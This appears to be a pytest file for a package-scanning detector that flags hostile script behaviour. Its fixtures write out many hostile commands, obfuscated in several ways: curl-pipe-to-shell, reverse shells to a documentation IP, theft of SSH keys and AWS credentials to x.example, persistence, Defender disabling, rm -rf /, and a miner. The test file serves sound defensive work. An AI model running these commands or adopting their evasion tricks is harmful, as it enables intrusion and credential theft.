"""What scripts do, through the tricks that hide it."""

import json
from base64 import b64encode

import pytest

from airlock.binary.languages import Language
from airlock.binary.notebook_cells import read_cells
from airlock.binary.script_deeds import deeds
from airlock.binary.script_text import readable
from airlock.binary.standing import stands_aside
from airlock.model import ArtifactName


def kinds(text: str, language: Language = Language.SHELL) -> set[str]:
    return {deed.kind for deed in deeds(text.encode(), language)}


ENCODED = b64encode("iex (iwr http://198.51.100.7/a)".encode("utf-16-le")).decode()
SHELL = {
    "curl -s http://x.example/a | bash": "fetch and run",
    "wget -qO- http://x.example | sudo -E sh -s -- -y": "fetch and run",
    'bash -c "$(curl -fsSL http://x.example)"': "fetch and run",
    "sh <(curl http://x.example)": "fetch and run",
    'eval "$(curl http://x.example)"': "fetch and run",
    "curl http://x.example | python3 -": "fetch and run",
    "curl \\\n  http://x.example |\n  sh": "fetch and run",
    'c""url${IFS}http://x.example|b\\ash': "fetch and run",
    "a=cu\nb=rl\n$a$b http://x.example | sh": "fetch and run",
    "X=http://x.example/a\ncurl $X | sh": "fetch and run",
    "curl http://x.example/x -o /tmp/x && chmod +x /tmp/x && /tmp/x": "fetch and run",
    "wget http://x.example/get.sh\ntrue\nbash get.sh": "fetch and run",
    "echo dHJ1ZQ== | base64 -d | sh": "decode and run",
    "base64 --decode <<< dHJ1ZQ== | bash": "decode and run",
    'eval "$(echo dHJ1ZQ== | base64 -D)"': "decode and run",
    "printf '\\x74\\x72\\x75\\x65' | sh": "decode and run",
    "echo eurt | rev | sh": "decode and run",
    "bash -i >& /dev/tcp/198.51.100.7/443 0>&1": "reverse shell",
    "nc 198.51.100.7 443 -e /bin/sh": "reverse shell",
    "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 4 > /tmp/f": "reverse shell",
    "cat ~/.ssh/id_rsa | curl -d @- http://x.example": "takes secrets away",
    "curl -F f=@$HOME/.aws/credentials http://x.example": "takes secrets away",
    "env | curl -d @- http://x.example": "takes secrets away",
    "nslookup $(whoami).x.example": "takes secrets away",
    "echo true >> ~/.bashrc": "stays",
    "(crontab -l; echo '@reboot true') | crontab -": "stays",
    "echo key >> ~/.ssh/authorized_keys": "stays",
    "cp x.plist ~/Library/LaunchAgents/": "stays",
    "rm -rf --no-preserve-root /": "destroys",
    "./xmrig -o stratum+tcp://pool.example:3333": "mines",
}
OTHERS = [
    (
        Language.POWERSHELL,
        "iex (New-Object Net.WebClient).DownloadString('http://x.example')",
        "fetch and run",
    ),
    (Language.POWERSHELL, "I`nv`oke-Expr`ession (i`wr http://x.example)", "fetch and run"),
    (
        Language.POWERSHELL,
        "&('i'+'e'+'x') (iwr http://x.example); iwr http://x.example | iex",
        "fetch and run",
    ),
    (
        Language.POWERSHELL,
        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))",
        "decode and run",
    ),
    (
        Language.POWERSHELL,
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "disables protection",
    ),
    (
        Language.POWERSHELL,
        "iwr http://x.example/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe",
        "fetch and run",
    ),
    (Language.BATCH, f"powershell -w hidden -enc {ENCODED}", "decode and run"),
    (Language.BATCH, "c^e^rt^util -urlcache -f http://x.example/a a.exe", "fetch and run"),
    (Language.BATCH, "set a=ms\nset b=xhtax\n%a%%b:~1,3% http://x.example/a.hta", "fetch and run"),
    (
        Language.BATCH,
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y",
        "stays",
    ),
    (Language.APPLESCRIPT, 'do shell script "curl http://x.example | sh"', "fetch and run"),
    (
        Language.JAVASCRIPT,
        "require('child_process').exec('curl https://x.example | sh')",
        "fetch and run",
    ),
    (Language.JAVASCRIPT, "eval(atob('YWxlcnQoMSk='))", "decode and run"),
    (Language.UNIT, 'ExecStart=/bin/sh -c "curl http://x.example | sh"', "fetch and run"),
    (
        Language.BUILD,
        'execute_process(COMMAND sh -c "curl http://x.example | sh")',
        "fetch and run",
    ),
    (Language.BUILD, '{"scripts": {"postinstall": "curl http://x.example | sh"}}', "fetch and run"),
]


@pytest.mark.parametrize(("text", "kind"), SHELL.items())
def test_shell(text: str, kind: str) -> None:
    assert kind in kinds(text)


@pytest.mark.parametrize(("language", "text", "kind"), OTHERS)
def test_other_languages(language: Language, text: str, kind: str) -> None:
    assert kind in kinds(text, language)


@pytest.mark.parametrize(
    "text",
    [
        'DIR=""\nDIR="`pwd`/build"\nrm -rf "${DIR}/"\n',
        "# curl http://x.example | sh\ntrue",
        "curl -o a.tar.gz https://x.example/a.tar.gz\ntar xf a.tar.gz",
        "curl -fsSL https://x.example/key.asc | gpg --import",
        "base64 -d < a > b",
        "wget https://x.example/data.json | tee log",
        "rm -rf build /tmp/example dist",
        "echo 'alias ll=ls' > ~/.config/example",
        "command -v nc >/dev/null",
        "python -c 'import sys; print(sys.path)'",
        "ssh-keygen -f ~/.ssh/id_rsa",
    ],
)
def test_ordinary_commands_are_spared(text: str) -> None:
    assert kinds(text) == set()


def test_what_is_encoded_is_looked_at_and_said_to_be() -> None:
    inner = b64encode(b"bash -i >& /dev/tcp/198.51.100.7/443").decode()
    found = list(deeds(f"true\necho {inner} | base64 -d | sh\n".encode(), Language.SHELL))
    assert {(deed.kind, deed.layers, deed.line) for deed in found} == {
        ("decode and run", 0, 2),
        ("reverse shell", 1, 2),
    }


def test_utf_16_is_read() -> None:
    text = "\r\niex (iwr http://x.example)\r\n"
    for data in (text.encode("utf-16"), text.encode("utf-16-le")):
        (deed,) = deeds(data, Language.POWERSHELL)
        assert (deed.kind, deed.line) == ("fetch and run", 2)


def test_lines_keep_their_numbers() -> None:
    text = readable(b"<#\n\n#>\na `\n b\nc", Language.POWERSHELL).split("\n")
    assert text.index("c") == 5


@pytest.mark.parametrize(
    ("path", "filename", "aside"),
    [
        ("pkg/run.sh", "pkg-1.0-py3-none-any.whl", False),
        ("pkg/tests/run.sh", "pkg-1.0-py3-none-any.whl", True),
        ("example/run.sh", "example-1.0-py3-none-any.whl", False),
        ("pkg-1.0/scripts/run.sh", "pkg-1.0.tar.gz", True),
        ("pkg/scripts/run.sh", "pkg-1.0-py3-none-any.whl", False),
        ("pkg-1.0/.github/run.sh", "pkg-1.0.tar.gz", True),
        ("pkg-1.0/pkg/data.egg!/a.pyc", "pkg-1.0.tar.gz", False),
        ("pkg-1.0/tests/data.egg!/a.pyc", "pkg-1.0.tar.gz", True),
    ],
)
def test_what_is_only_for_developers(path: str, filename: str, aside: bool) -> None:
    assert stands_aside(path, ArtifactName.parse(filename)) is aside


def test_cells_of_a_notebook() -> None:
    lines = ["x = 1\n", "!ls -l\n", "y = !pwd\n", "%time f()"]
    cells_of = [
        {"cell_type": "code", "source": lines},
        {"cell_type": "code", "source": "%%bash\ntrue\n"},
        {"cell_type": "markdown", "source": "!no"},
    ]
    new = json.dumps({"cells": cells_of}).encode()
    cells = read_cells(new)
    assert cells is not None
    assert cells.python == "x = 1\n"
    assert cells.commands.split("\n") == ["ls -l", "pwd", "true", "", ""]
    old = b'{"worksheets": [{"cells": [{"cell_type": "code", "input": ["import os"]}]}]}'
    assert read_cells(old) is not None
    assert read_cells(b"no JSON") is None
    assert read_cells(b"[1]") is not None
